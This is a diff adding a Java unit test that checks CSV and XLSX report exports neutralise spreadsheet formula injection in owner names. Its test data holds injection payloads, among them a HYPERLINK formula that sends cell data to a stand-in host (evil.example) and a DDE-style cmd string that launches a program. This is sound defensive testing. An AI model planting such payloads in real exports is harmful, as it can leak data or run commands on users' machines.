@@ -62,6 +62,45 @@ class ReportAndExportTest {
 
     @ParameterizedTest
     @EnumSource(value = TestDatabase.class, names = "H2")
+    void exportsNeutraliseSpreadsheetFormulasInNames(TestDatabase database) throws Exception {
+        try (TestDatabase.Open db = database.open()) {
+            UsageReports usage = Fixtures.usage(db);
+            List<String> attacks = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", "+1+cmd|' /C calc'!A0",
+                    "-2+3", "@SUM(1,2)", "\tTab", "\rReturn");
+            for (int i = 0; i < attacks.size(); i++) {
+                CertificateRef ref = Fixtures.issue(usage, "f" + i, CertificateKind.PERSONAL, "AG-STP", "x" + i);
+                usage.setOwner(ref, attacks.get(i), attacks.get(i));
+            }
+            UsageReport report = usage.report(usage.defaultPeriod(), Language.EN);
+            ByteArrayOutputStream csvOut = new ByteArrayOutputStream();
+            ByteArrayOutputStream xlsxOut = new ByteArrayOutputStream();
+
+            usage.exportCsv(report, Language.EN, csvOut);
+            usage.exportXlsx(report, Language.EN, xlsxOut);
+
+            Reader reader = new InputStreamReader(new ByteArrayInputStream(csvOut.toByteArray(), 3, csvOut.size() - 3),
+                    StandardCharsets.UTF_8);
+            List<String> csvOwners = new java.util.ArrayList<>();
+            try (CSVParser csv = CsvExport.FORMAT.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
+                csv.forEach(r -> csvOwners.add(r.get(2)));
+            }
+            List<String> xlsxOwners = new java.util.ArrayList<>();
+            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsxOut.toByteArray()))) {
+                Sheet certificates = book.getSheet("Certificates");
+                for (int r = 1; r <= certificates.getLastRowNum(); r++) {
+                    org.apache.poi.ss.usermodel.Cell cell = certificates.getRow(r).getCell(2);
+                    assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+                    xlsxOwners.add(cell.getStringCellValue());
+                }
+            }
+            List<String> expected = attacks.stream().map(a -> "'" + a).toList();
+            assertThat(csvOwners).containsExactlyInAnyOrderElementsOf(expected);
+            assertThat(xlsxOwners).containsExactlyInAnyOrderElementsOf(expected);
+        }
+    }
+
+    @ParameterizedTest
+    @EnumSource(value = TestDatabase.class, names = "H2")
     void csvReadsBackAsTheReport(TestDatabase database) throws Exception {
         try (TestDatabase.Open db = database.open()) {
             UsageReports usage = Fixtures.usage(db);
